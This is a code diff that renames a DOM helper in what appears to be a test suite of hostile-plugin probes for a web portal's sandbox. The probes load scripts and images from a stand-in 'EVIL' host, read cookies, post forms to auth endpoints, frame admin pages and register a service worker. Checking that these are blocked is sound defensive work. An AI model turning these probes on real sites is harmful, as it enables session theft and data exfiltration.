@@ -15,16 +15,18 @@ const loads = (element: HTMLElement, parent: HTMLElement = document.body) =>
     element.addEventListener("error", () => done(NOTHING));
     parent.append(element);
   });
-const made = <K extends keyof HTMLElementTagNameMap>(name: K, values: Partial<HTMLElementTagNameMap[K]>) =>
-  Object.assign(document.createElement(name), values);
+const elementOf = <K extends keyof HTMLElementTagNameMap>(
+  name: K,
+  values: Partial<HTMLElementTagNameMap[K]>,
+) => Object.assign(document.createElement(name), values);
 const posts = (action: string, target: string) => {
-  const form = made("form", { method: "post", action, target });
+  const form = elementOf("form", { method: "post", action, target });
   document.body.append(form);
   form.submit();
   return NOTHING;
 };
 const clicks = (href: string, values: Partial<HTMLAnchorElement> = {}) => {
-  const link = made("a", { href, textContent: "x", ...values });
+  const link = elementOf("a", { href, textContent: "x", ...values });
   document.body.append(link);
   link.click();
   return NOTHING;
@@ -75,19 +77,21 @@ export const OWN: Record<string, Attempt> = {
     }),
   "opens a call": () =>
     new RTCPeerConnection({ iceServers: [{ urls: "stun:evil.example" }] }).createDataChannel("x").label,
-  "loads a picture elsewhere": () => loads(made("img", { src: `${EVIL}/pixel` })),
-  "loads a picture of the host": () => loads(made("img", { src: "/api/user/current" })),
-  "loads a style elsewhere": () => loads(made("link", { rel: "stylesheet", href: `${EVIL}/a.css` })),
+  "loads a picture elsewhere": () => loads(elementOf("img", { src: `${EVIL}/pixel` })),
+  "loads a picture of the host": () => loads(elementOf("img", { src: "/api/user/current" })),
+  "loads a style elsewhere": () => loads(elementOf("link", { rel: "stylesheet", href: `${EVIL}/a.css` })),
   "writes a style": () => {
-    const style = made("style", { textContent: `body { --x: 1 } .x { background: url(${EVIL}/style) }` });
+    const style = elementOf("style", {
+      textContent: `body { --x: 1 } .x { background: url(${EVIL}/style) }`,
+    });
     document.head.append(style);
     return style.sheet ? "applied" : NOTHING;
   },
-  "loads a script elsewhere": () => loads(made("script", { src: `${EVIL}/a.js` })),
-  "loads a script of the portal's": () => loads(made("script", { src: "/color-scheme.js" })),
-  "loads an answer as a script": () => loads(made("script", { src: "/api/plugins" })),
+  "loads a script elsewhere": () => loads(elementOf("script", { src: `${EVIL}/a.js` })),
+  "loads a script of the portal's": () => loads(elementOf("script", { src: "/color-scheme.js" })),
+  "loads an answer as a script": () => loads(elementOf("script", { src: "/api/plugins" })),
   "writes a script": () => {
-    document.body.append(made("script", { textContent: "window.written = 'run'" }));
+    document.body.append(elementOf("script", { textContent: "window.written = 'run'" }));
     return (window as { written?: string }).written ?? NOTHING;
   },
   evaluates: () => new Function("return 'run'")(),
@@ -99,7 +103,7 @@ export const OWN: Record<string, Attempt> = {
       setTimeout(() => done((window as { later?: string }).later ?? NOTHING), 50);
     }),
   "prefetches elsewhere": () =>
-    loads(made("link", { rel: "prefetch", href: `${EVIL}/prefetch` }), document.head),
+    loads(elementOf("link", { rel: "prefetch", href: `${EVIL}/prefetch` }), document.head),
   "reads cookies": () => document.cookie,
   "writes a cookie": () => {
     // biome-ignore lint/suspicious/noDocumentCookie: it is what is tried
@@ -149,21 +153,22 @@ export const OWN: Record<string, Attempt> = {
   "posts a form to the host": () => posts("/api/auth/refresh", "_self"),
   "posts a form elsewhere": () => posts(EVIL, "_blank"),
   "posts a form to the top": () => posts(EVIL, "_top"),
-  "frames the portal": () => loads(made("iframe", { src: "/admin/user" })).then(framed),
-  "frames another plugin's page": () => loads(made("iframe", { src: "/frame/bigblue/0.1.0" })).then(framed),
+  "frames the portal": () => loads(elementOf("iframe", { src: "/admin/user" })).then(framed),
+  "frames another plugin's page": () =>
+    loads(elementOf("iframe", { src: "/frame/bigblue/0.1.0" })).then(framed),
   "frames a page of its own": () =>
     new Promise((done) => {
       // Whatever runs in it runs anew, with all that a page begins with.
       addEventListener("message", ({ data }) => done(data));
       const text = `<script type="module" src="${PROBE}"></script>`;
-      document.body.append(made("iframe", { srcdoc: text }));
+      document.body.append(elementOf("iframe", { srcdoc: text }));
     }),
   "frames nothing, for what is in it": () => {
-    const inner = made("iframe", {});
+    const inner = elementOf("iframe", {});
     document.body.append(inner);
     return (inner.contentWindow as unknown as typeof window).RTCPeerConnection ? "a new realm" : NOTHING;
   },
-  "embeds a page": () => loads(made("object", { data: "/admin/user" })).then(framed),
+  "embeds a page": () => loads(elementOf("object", { data: "/admin/user" })).then(framed),
   "registers a service worker": async () => {
     const { scope } = await navigator.serviceWorker.register("/plugins/hostile/sw.js");
     return scope;
